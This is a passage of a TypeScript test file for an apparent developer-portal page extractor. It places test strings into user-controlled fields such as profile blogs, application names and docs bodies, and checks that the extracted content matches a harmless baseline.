      { body: 'page-search', userNav: SIGNED_IN },
      (c) => {
        // the result's matched terms are read from its own summary
        (c.results as { matches: string[] }[])[0]!.matches = [];
      },
    ],
    [
      'a member’s profile field',
      (b) =>
        '<h1 class="first">View Member mallory</h1><div class="user-information"><dl>' +
        `<dt>Blog</dt><dd>${b}</dd><dt>Website</dt><dd><a href="https://mallory.example/">site</a></dd>` +
        '<dt>Registered</dt><dd><abbr title="2015-03-02T12:00:00Z">March 2, 2015</abbr></dd></dl></div>' +
        '<div class="recent-activity"><table><tr><td>Posted in Forum: Retries</td><td>Apr 1</td></tr></table></div>',
      { body: 'page-profile', userNav: SIGNED_IN },
      (c) => {
        // the blog field is the member's own link
        c.blog = null;
      },
    ],
    [
      'an application’s name and description (my apps)',
      (b) =>
        '<h1 class="first">My Apps</h1><div class="section"><div class="section-body"><div class="page-info" style="display: none;">true-2-1-</div>' +
        `<div class="application"><h3>${b}</h3><dl><dt>Description</dt><dd>${b}</dd><dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>` +
        '<table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table>' +
        '<div class="application-actions actions"><ul><li><a class="edit action" href="/apps/edit/1">Edit</a></li></ul></div></div>' +
        '<a class="add-app action" href="/apps/register">New app</a></div></div>',
      { body: 'page-apps myapps', userNav: SIGNED_IN },
      (c) => {
        // the application's name is its heading
        (c.applications as { application: string }[])[0]!.application = 'BODY';
      },
    ],
    [
      'an application’s name in a key block (my keys)',
      (b) =>
        '<h1 class="first">My Keys</h1><div class="section"><div class="section-body"><div class="page-info" style="display: none;">true-2-1-</div>' +
        `<h2>Weather API</h2><div class="key"><dl><dt>Application</dt><dd>${b}</dd><dt>Key</dt><dd>k1</dd><dt>Status</dt><dd>active</dd>` +
        '<dt>Registered</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>' +
        '<div class="key-actions actions"><ul><li><a class="delete action" href="/key/delete-key/k1">Delete</a></li></ul></div></div>' +
        '<a class="action new-key" href="/apps/register">Get another key</a></div></div>',
      { body: 'page-apps mykeys', userNav: SIGNED_IN },
      (c) => {
        // the key's application value is the name
        (c.plans as { keys: { application: string }[] }[])[0]!.keys[0]!.application = 'BODY';
      },
    ],
    [
      'an application’s name on the key activity page',
      (b) =>
        '<h1 class="first">Key Activity</h1><div class="section"><div class="section-body"><h2>Weather API</h2>' +
        `<div class="key"><dl><dt>Application</dt><dd>${b}</dd><dt>Key</dt><dd>k1</dd><dt>Status</dt><dd>active</dd>` +
        '<dt>Registered</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl></div>' +
        '<div id="date_selector"><form method="get" action="/key/key-activity/k1"><select name="range"><option>7</option></select></form></div>' +
        '<div class="main-reports"><ul class="nav"><li class="active"><a href="#calls">Calls</a></li></ul>' +
        '<div class="reports"><div class="report"><div class="chart" id="chart_calls"></div></div></div></div>' +
        '<script type="text/javascript">initCharts("k1", "2017-08-01", "2017-08-31", {});</script></div></div>',
      { body: 'page-key key-activity', userNav: SIGNED_IN },
      (c) => {
        // the key's application value is the name
        (c.detail as { application: string }).application = 'BODY';
      },
    ],
    [
      'an application’s description on the delete page',
      (b) =>
        '<h1 class="first">Delete Application</h1><div class="section"><div class="section-body">' +
        `<div class="application"><h3>A</h3><dl><dt>Description</dt><dd>${b}</dd><dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>` +
        '<table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table></div>' +
        '<form method="post" action="/apps/delete/88"><input type="hidden" name="token" value="q1"><input type="submit" value="Delete"></form></div></div>',
      { body: 'page-apps delete', userNav: SIGNED_IN },
    ],
    [
      'a custom page’s body',
      (b) => `<h1 class="first">Pricing</h1><div class="section"><div class="section-body">${b}</div></div>`,
      { body: 'page-page', userNav: SIGNED_IN },
    ],
    [
      'a docs page’s body (a page without a sidebar)',
      (b) => `<h1 class="first">Keys</h1><div class="section"><div class="section-body">${b}</div></div>`,
      { body: 'page-docs no_sub', userNav: SIGNED_IN },
    ],
    [
      'a docs page’s body (a page with its sidebar)',
      (b) => `<h1 class="first">Keys</h1><div class="section"><div class="section-body">${b}</div></div>`,
      {
        body: 'page-docs',
        userNav: SIGNED_IN,
        sub: '<h2>Docs Navigation</h2><ul><li><a href="/docs/read/Start">Start</a></li></ul>',
      },
    ],
  ];

  for (const [name, main, parts, own] of cases)
    it(name, () => {
      const sink = /^page-(docs|page)\b/.test(parts.body ?? '') ? AUTHORED : PARTS;
      const read = (body: string) => {
        const p = extract({ ...parts, main: main(body) });
        const content = masked(p.content) as Record<string, unknown>;
        own?.(content);
        return { context: p.context, nav: p.nav, frame: p.frame, content };
      };
      expect(read(sink)).toEqual(read(HARMLESS));
    });
});
